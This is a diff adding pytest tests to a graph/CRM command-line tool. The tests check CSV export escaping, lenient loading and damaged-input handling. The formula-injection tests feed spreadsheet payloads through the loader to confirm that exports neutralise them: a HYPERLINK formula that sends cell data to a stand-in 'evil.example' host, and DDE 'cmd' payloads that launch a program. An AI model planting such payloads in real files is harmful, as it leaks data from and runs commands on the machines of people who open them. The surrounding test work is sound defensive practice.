@@ -125,3 +125,192 @@ def test_verify_passes_on_a_good_snapshot_and_reports_what_it_read(good_snapshot
     manifest = json.loads((good_snapshot / "manifest.json").read_text())
     assert verified == {"files": len(manifest["files"]), "bytes": sum(manifest["files"].values()),
                         "checksum": "blake2b-128"}
+
+
+# ---------------------------------------------------------------------------- formula injection (OWASP)
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+            "\tTAB", "=1+1"]
+
+
+def spreadsheet_would_run(cell: str) -> bool:
+    from graphcrm.core.csvsafe import FORMULA_START, _NUMBER
+    return cell.startswith(FORMULA_START) and not _NUMBER.match(cell)
+
+
+def csv_cells(path: Path) -> list[str]:
+    import csv
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+@pytest.fixture(scope="module")
+def injected(tmp_path_factory):
+    """wiki-Vote with its six most-voted accounts renamed to formula payloads, plus one bad row."""
+    import pandas as pd
+
+    from tests.conftest import dataset
+
+    work = tmp_path_factory.mktemp("inject")
+    edges = pd.read_csv(dataset("wiki-Vote/wiki-Vote.txt.gz"), sep="\t", comment="#", names=["src", "dst"], dtype=str)
+    top = edges.dst.value_counts().index[:len(PAYLOADS)]
+    rename = dict(zip(top, PAYLOADS))
+    edges = edges.replace({"src": rename, "dst": rename})
+    path = work / "votes.csv"
+    edges.to_csv(path, index=False, header=["source", "target"])
+    with open(path, "a", encoding="utf-8") as fh:
+        fh.write('=cmd|"/C calc"!A0,1,2,3\n')                   # a bad row: its raw text goes to the rejects file
+    snap = work / "snap"
+    proc = graphcrm("load", "--edges", path, "--layer", "votes", "--format", "csv", "--mode", "lenient", "--out", snap)
+    assert proc.returncode == 0, proc.stderr
+    return work, snap, set(PAYLOADS)
+
+
+def test_csv_exports_escape_formulas_and_keep_the_text(injected, tmp_path):
+    from graphcrm.core.csvsafe import unescape_cell
+
+    work, snap, payloads = injected
+    leaders, part = tmp_path / "leaders.csv", tmp_path / "part.csv"
+    for verb in (["rank", snap, "--method", "degree", "--layer", "votes", "--top", "10000", "--out", leaders],
+                 ["communities", snap, "--layer", "votes", "--out", part]):
+        proc = graphcrm(*verb)
+        assert proc.returncode == 0, proc.stderr
+    rejects = work / "snap.rejects.csv"
+    for path in (leaders, part, rejects):
+        cells = csv_cells(path)
+        assert not [c for c in cells if spreadsheet_would_run(c)], path
+    # the escaping is a leading quote only: the ids come back exactly
+    listed = {unescape_cell(c) for c in csv_cells(leaders)}
+    assert payloads - {"\tTAB"} <= listed and "-2+3" in listed
+    assert any(c.startswith("'=cmd") for c in csv_cells(rejects))
+    # machine consumers: raw text on request; Parquet is never escaped
+    raw = tmp_path / "raw.csv"
+    exe = shutil.which("graphcrm")
+    subprocess.run([exe, "rank", str(snap), "--method", "degree", "--layer", "votes", "--top", "20", "--out", str(raw)],
+                   check=True, capture_output=True, env={**os.environ, "GRAPHCRM_CSV_RAW": "1"})
+    assert "=1+1" in csv_cells(raw)
+    pq_out = tmp_path / "leaders.parquet"
+    assert graphcrm("rank", snap, "--method", "degree", "--layer", "votes", "--top", "20", "--out", pq_out).returncode == 0
+    import pandas as pd
+    assert "=1+1" in set(pd.read_parquet(pq_out).account_id.astype(str))
+
+
+# ---------------------------------------------------------------------------- lenient loads with nothing usable
+def test_lenient_load_of_a_file_with_no_good_row_keeps_the_previous_snapshot(good_snapshot, tmp_path):
+    snap = tmp_path / "snap"
+    shutil.copytree(good_snapshot, snap)
+    before = {p.relative_to(snap): p.read_bytes() for p in snap.rglob("*") if p.is_file()}
+    src = Path(sample_path())
+    bad = tmp_path / "bad.txt"
+    import gzip
+    with gzip.open(src, "rt") as fh:                                  # real rows with their timestamps broken
+        rows = [line.split() for _, line in zip(range(200), fh)]
+    bad.write_text("".join(f"{a} {b} {t}x RT\n" for a, b, t, *_ in rows))
+    proc = graphcrm("load", "--interactions", bad, "--format", "higgs", "--mode", "lenient", "--out", snap)
+    assert proc.returncode == 1 and proc.stderr.startswith("error:") and proc.stderr.count("\n") == 1, proc.stderr
+    assert "none of its 200 rows could be loaded" in proc.stderr and "unchanged" in proc.stderr
+    after = {p.relative_to(snap): p.read_bytes() for p in snap.rglob("*") if p.is_file()}
+    assert after == before
+    rejects = tmp_path / "snap.rejects.csv"
+    assert rejects.exists() and len(csv_cells(rejects)) > 200       # the user sees why
+    proc = graphcrm("load", "--interactions", bad, "--format", "higgs", "--mode", "lenient", "--allow-empty",
+                    "--out", tmp_path / "empty")
+    assert proc.returncode == 0, proc.stderr
+
+
+# ---------------------------------------------------------------------------- the customers loader
+def customer_cases(tmp: Path) -> dict:
+    """Damaged copies of the example CRM customers file: name -> (path, {mode: expected exit code})."""
+    import gzip
+
+    repo = Path(__file__).resolve().parents[1]
+    good = (repo / "examples/crm/customers.csv").read_bytes()
+    header, *rows = good.splitlines(keepends=True)
+    cases = {
+        "header only": (header, {"strict": 1, "lenient": 1}),
+        "bad e-mail": (header + b"".join(rows[:20]) + b"C999999,Bad Row,not-an-email,,,,False\n",
+                       {"strict": 1, "lenient": 0}),
+        "bad churn flag": (header + b"".join(rows[:20]) + b"C999998,Bad Flag,,,,,maybe\n", {"strict": 1, "lenient": 0}),
+        "column count": (header + b"".join(rows[:20]) + b"C999997,Too,Few\n", {"strict": 1, "lenient": 0}),
+        "latin-1 bytes": (header + b"".join(rows[:20]) + b"C999996,Jos\xe9 Mart\xednez,,,,,False\n",
+                          {"strict": 1, "lenient": 0}),
+        "every row bad": (header + b"".join(b"C%06d,X,@@,,,,nope\n" % i for i in range(30)), {"strict": 1, "lenient": 1}),
+        "field over 128 KiB": (header + b"".join(rows[:20]) + b"C999995," + b"A" * 200_000 + b",,,,,False\n",
+                               {"strict": 0, "lenient": 0}),
+    }
+    out = {}
+    for name, (data, expected) in cases.items():
+        path = tmp / (name.replace(" ", "_") + ".csv")
+        path.write_bytes(data)
+        out[name] = (path, expected)
+    truncated = tmp / "truncated.csv.gz"
+    truncated.write_bytes(gzip.compress(good)[: len(good) // 8])
+    out["truncated gzip"] = (truncated, {"strict": 1, "lenient": 1})
+    return out
+
+
+def test_customers_loader_every_damage_is_a_line_or_a_rejects_row(tmp_path):
+    repo = Path(__file__).resolve().parents[1]
+    accounts = repo / "examples/crm/accounts.csv"
+    edges = tmp_path / "edges.txt"
+    edges.write_text("1 2\n2 3\n")
+    for name, (path, expected) in customer_cases(tmp_path).items():
+        for mode, code in expected.items():
+            out = tmp_path / f"snap-{mode}"
+            proc = graphcrm("load", "--edges", edges, "--nodes", accounts, "--customers", path, "--mode", mode,
+                            "--out", out, "--json")
+            assert proc.returncode == code, (name, mode, proc.returncode, proc.stderr[-400:])
+            assert "Traceback" not in proc.stderr, (name, mode, proc.stderr)
+            if code:
+                assert proc.stderr.startswith("error:") and str(path) in proc.stderr, (name, mode, proc.stderr)
+                assert proc.stderr.count("\n") == 1, (name, mode, proc.stderr)
+            elif mode == "lenient" and name != "field over 128 KiB":
+                summary = json.loads(proc.stdout)
+                source = next(s for s in summary["sources"] if s["source"] == str(path))
+                assert sum(source["rejected"].values()) == 1 and summary["rejects_file"], (name, source)
+            shutil.rmtree(out, ignore_errors=True)
+
+
+def test_concurrent_failing_loads_always_exit_1(tmp_path):
+    """30 failing loads, three at a time: the exit code is 1 every time (never 134 from a native abort)."""
+    repo = Path(__file__).resolve().parents[1]
+    cases = customer_cases(tmp_path)
+    bad = [cases["bad e-mail"][0], cases["truncated gzip"][0], cases["every row bad"][0]]
+    edges = tmp_path / "edges.txt"
+    edges.write_text("1 2\n2 3\n")
+    exe = shutil.which("graphcrm")
+    codes = []
+    for round_ in range(10):
+        procs = [subprocess.Popen([exe, "load", "--edges", str(edges), "--nodes", str(repo / "examples/crm/accounts.csv"),
+                                   "--customers", str(path), "--out", str(tmp_path / f"out{i}")],
+                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+                 for i, path in enumerate(bad)]
+        for p in procs:
+            _, err = p.communicate()
+            codes.append(p.returncode)
+            assert "terminate called" not in err and "Traceback" not in err, err
+    assert codes == [1] * 30, codes
+
+
+def test_implausible_values_load_with_a_warning(tmp_path):
+    import gzip
+
+    from tests.conftest import dataset
+
+    with gzip.open(dataset("soc-sign-bitcoin/soc-sign-bitcoinalpha.csv.gz"), "rt") as fh:
+        header, *rows = [line.rstrip("\n").split(",") for _, line in zip(range(2001), fh)]
+    rows[7][2] = "1e308"
+    signed = tmp_path / "alpha.csv"
+    signed.write_text("".join(",".join(r) + "\n" for r in [header, *rows]))
+    proc = graphcrm("load", "--signed", signed, "--out", tmp_path / "trust", "--json")
+    assert proc.returncode == 0, proc.stderr
+    assert "warning:" in proc.stderr and "1 ratings outside -10..+10" in proc.stderr and "1e+308" in proc.stderr
+    source = json.loads(proc.stdout)["sources"][0]
+    assert len(source["warnings"]) == 1
+    picked = [r for r in rows[8:] if float(r[2]) < 0][:20] + [r for r in rows[8:] if float(r[2]) > 0][:30]
+    follows = tmp_path / "follows.txt"
+    follows.write_text("".join(f"{r[0]} {r[1]} {r[2]}\n" for r in picked))   # ratings mistaken for follow weights
+    proc = graphcrm("load", "--edges", follows, "--out", tmp_path / "f")
+    negative = sum(float(r[2]) < 0 for r in picked)
+    assert negative > 0 and proc.returncode == 0, proc.stderr
+    assert f"{negative} negative weights on layer 'follows'" in proc.stderr
+    assert "--signed" in proc.stderr
